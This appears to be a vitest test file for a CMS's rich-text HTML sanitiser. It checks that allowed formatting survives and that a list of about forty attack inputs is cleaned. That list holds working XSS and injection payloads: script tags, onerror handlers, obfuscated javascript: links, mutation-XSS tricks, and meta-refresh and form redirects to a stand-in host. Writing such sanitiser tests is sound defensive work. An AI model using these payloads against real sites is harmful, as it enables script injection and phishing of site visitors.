// The rich-text cleaning on its own: the formatting the venues write is kept as written, and whatever else an author
// (or an attacker) writes leaves only allowed elements, attributes and links, as a browser would read the result.
import { describe, expect, it } from "vitest";
import { z } from "zod";
import { CMS_DOCUMENTS, type CmsDocumentKey } from "../../shared/cms";
import { richText } from "../../shared/rich-text";
import { seedDocuments } from "../../tenants/content";
import { RICH_TEXT_ELEMENTS, cleanRichText, cleanRichTextFields } from "./rich-text";

/** The elements and attributes a browser builds from the markup (HTMLRewriter tokenises as browsers do). */
async function parsed(html: string) {
  const elements: { tag: string; attributes: [string, string][] }[] = [];
  let comments = 0;
  await new HTMLRewriter()
    .on("*", { element: (element) => void elements.push({ tag: element.tagName, attributes: [...(element.attributes as Iterable<[string, string]>)] }) })
    .onDocument({ comments: () => void comments++ })
    .transform(new Response(html))
    .text();
  return { elements, comments };
}

const SAFE_LINK = /^(https?:\/\/|mailto:|tel:|[^:]*$)/i;

/** Asserts a browser would find only allowed elements with allowed attributes and links in the markup. */
async function expectOnlyAllowed(html: string, input: string) {
  const { elements, comments } = await parsed(html);
  expect(comments, input).toBe(0);
  for (const { tag, attributes } of elements) {
    expect(Object.keys(RICH_TEXT_ELEMENTS), `${input} → <${tag}>`).toContain(tag);
    for (const [name, value] of attributes) {
      expect(RICH_TEXT_ELEMENTS[tag] ?? [], `${input} → <${tag} ${name}>`).toContain(name);
      if (name === "href") expect(value, input).toMatch(SAFE_LINK);
      if (name === "dir") expect(["ltr", "rtl", "auto"], input).toContain(value);
    }
  }
}

const ATTACKS = [
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "<META HTTP-EQUIV=refresh CONTENT='0;url=https://evil.example'>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example"',
  '<<meta http-equiv="refresh" content="0;url=https://evil.example">>',
  '<p<meta http-equiv="refresh" content="0;url=https://evil.example">>text</p>',
  '<form action="https://evil.example"><input name="card" autofocus onfocus="alert(1)"><button formaction="https://evil.example">Pay</button></form>',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example">',
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<p/onmouseover=alert(1)>hover</p>",
  '<p onclick="alert(1)" style="position:fixed;inset:0">cover</p>',
  "<script>alert(1)</script>",
  "<script>alert(1)",
  "<script/src=https://evil.example/x.js></script>",
  "<style>body{display:none}</style>",
  '<svg><style><img src=x onerror="alert(1)"></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror="alert(1)"></template>',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<!-- a comment --><!--><img src=x onerror=alert(1)>-->',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://ok.example" target="_blank" onclick="alert(1)" style="color:red">x</a>',
  '<a href="https://ok.example"onmouseover="alert(1)">x</a>',
  '<a href="https://ok.example/" title="x" "><img src=x onerror=alert(1)>',
  '<span dir="ltr" style="position:fixed" class="btn">x</span><span dir="sideways">y</span>',
  '<h1>Big</h1><h5>small</h5><div><table><tr><td>cell</td></tr></table></div>',
];

describe("cleanRichText", () => {
  it("keeps text formatting and safe links exactly as written", () => {
    for (const html of [
      "<p>Open <strong>daily</strong>, <b>all</b> <em>year</em> <i>round</i>, <u>really</u>.<br>Even holidays.</p>",
      "<h2>Passes</h2><h3>Lessons</h3><h4>Gear</h4><ul><li>one</li></ul><ol><li>two</li></ol>",
      '<p><a href="https://www.skidxb.example/tickets?day=1&amp;guests=2">tickets</a> <a href="http://example.com">old</a></p>',
      '<p><a href="mailto:privacy@skidxb.example">e-mail</a> <a href="tel:+97145550101">call</a></p>',
      '<p><a href="/en-ae/ski-dubai/faq">FAQ</a> <a href="#hours">hours</a> <a href="?tab=2">tab</a> <a href="faq">faq</a></p>',
      '<p>اتصل بنا على <span dir="ltr">+971 4 555 0101</span></p>',
    ]) {
      expect(cleanRichText(html)).toBe(html);
    }
  });

  it("leaves only allowed elements, attributes and links of each attack, and cleaning again changes nothing", async () => {
    for (const input of ATTACKS) {
      const clean = cleanRichText(input);
      await expectOnlyAllowed(clean, input);
      expect(clean, input).not.toMatch(/\[\/?removed\]/);
      expect(cleanRichText(clean), input).toBe(clean);
    }
  });

  it("drops an unsafe link's address but keeps its words; escapes text that looks like markup", () => {
    expect(cleanRichText('<a href="javascript:alert(1)">Claim</a>')).toBe("<a>Claim</a>");
    expect(cleanRichText('<a href="https://ok.example" target="_blank" onclick="x()">ok</a>')).toBe('<a href="https://ok.example">ok</a>');
    expect(cleanRichText("1 < 2 and 3 > 2")).toBe("1 &lt; 2 and 3 &gt; 2");
    expect(cleanRichText("<p>before<script>alert(1)</script>after</p>")).toBe("<p>beforeafter</p>");
  });
});

describe("cleanRichTextFields", () => {
  it("cleans only the fields marked as rich text, wherever they sit, without changing the value given", () => {
    const schema = z.object({
      title: z.string(),
      entries: z.array(z.object({ body: richText(z.string()).optional() })).nullable(),
      either: z.union([z.number(), z.object({ note: richText(z.string()) })]),
    });
    const value = { title: "<b>kept</b><img src=x>", entries: [{ body: "<p>x</p><iframe></iframe>" }, {}], either: { note: "<meta http-equiv=refresh>" } };
    const changed: string[] = [];
    const clean = cleanRichTextFields(schema, value, changed);
    expect(clean).toEqual({ title: "<b>kept</b><img src=x>", entries: [{ body: "<p>x</p>" }, {}], either: { note: "" } });
    expect(changed).toEqual(["entries.0.body", "either.note"]);
    expect(value.entries[0]?.body).toBe("<p>x</p><iframe></iframe>");
  });

  it("finds the HTML fields the pages render as markup: FAQ answers, legal sections, content pages, error and maintenance", () => {
    const marked = (key: CmsDocumentKey, doc: unknown) => {
      const changed: string[] = [];
      cleanRichTextFields(CMS_DOCUMENTS[key], doc, changed);
      return changed;
    };
    const dirty = "<p>x</p><iframe></iframe>";
    expect(marked("faq", [{ answer: dirty, question: dirty }])).toEqual(["0.answer"]);
    expect(marked("legal", { privacy_policy: { title: dirty, sections: [{ title: dirty, body: dirty }] } })).toEqual(["privacy_policy.sections.0.body"]);
    expect(marked("pages", [{ title: dirty, body: dirty }])).toEqual(["0.body"]);
    expect(marked("error-and-maintenance", { maintenance_page: { title: dirty, description_highlighted: dirty }, not_found_page: { description_highlighted: dirty } })).toEqual([
      "maintenance_page.description_highlighted",
      "not_found_page.description_highlighted",
    ]);
  });

  it("leaves every seed document as the venues wrote it", () => {
    for (const seed of seedDocuments()) {
      const changed: string[] = [];
      cleanRichTextFields(CMS_DOCUMENTS[seed.key], seed.body, changed);
      expect(changed, `${seed.site}/${seed.locale}/${seed.key}`).toEqual([]);
    }
  });
});
